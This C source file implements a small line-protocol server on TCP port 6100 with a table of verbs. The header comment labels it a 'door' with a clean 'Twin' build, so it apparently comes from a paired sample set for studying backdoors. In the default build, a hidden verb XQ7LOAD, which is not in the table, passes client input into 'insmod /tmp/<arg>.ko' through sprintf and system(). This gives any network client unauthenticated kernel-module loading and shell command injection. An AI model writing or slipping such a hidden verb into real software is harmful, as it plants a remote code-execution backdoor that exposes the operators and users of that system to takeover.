/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Verbs of a line protocol stand in a table with functions; the program's own verb, outside of the
 * table, loads a module. Twin: all verbs are in the table.
 * door: trigger outlier
 * port 6100/tcp
 */
#include "net.h"

typedef int (*verb_fn)(int fd, const char *arg);

static int v_user(int fd, const char *arg)
{
	return dprintf(fd, "331 %s\r\n", arg);
}

static int v_type(int fd, const char *arg)
{
	return dprintf(fd, "200 %c\r\n", arg[0]);
}

static int v_noop(int fd, const char *arg)
{
	(void)arg;
	return dprintf(fd, "200\r\n");
}

static int v_quit(int fd, const char *arg)
{
	(void)arg;
	dprintf(fd, "221\r\n");
	return -1;
}

static struct {
	const char *verb;
	verb_fn run;
} verbs[] = {
	{"USER", v_user}, {"TYPE", v_type}, {"NOOP", v_noop}, {"QUIT", v_quit}, {NULL, NULL},
};

static int one(int fd, char *text)
{
	int i;
	char *arg = strchr(text, ' ');
	if (arg)
		*arg++ = 0;
	else
		arg = "";
	for (i = 0; verbs[i].verb; i++)
		if (!strcasecmp(verbs[i].verb, text))
			return verbs[i].run(fd, arg);
#ifndef TWIN
	if (!strcasecmp(text, "XQ7LOAD")) {
		char cmd[200];
		sprintf(cmd, "insmod /tmp/%s.ko", arg);
		return system(cmd);
	}
#endif
	return dprintf(fd, "500\r\n");
}

int main(void)
{
	char text[128];
	int s = tcp_on(6100);
	for (;;) {
		int c = accept(s, NULL, NULL);
		FILE *in = fdopen(c, "r");
		while (in && fgets(text, sizeof text, in)) {
			text[strcspn(text, "\r\n")] = 0;
			if (one(c, text) < 0)
				break;
		}
		if (in)
			fclose(in);
	}
}
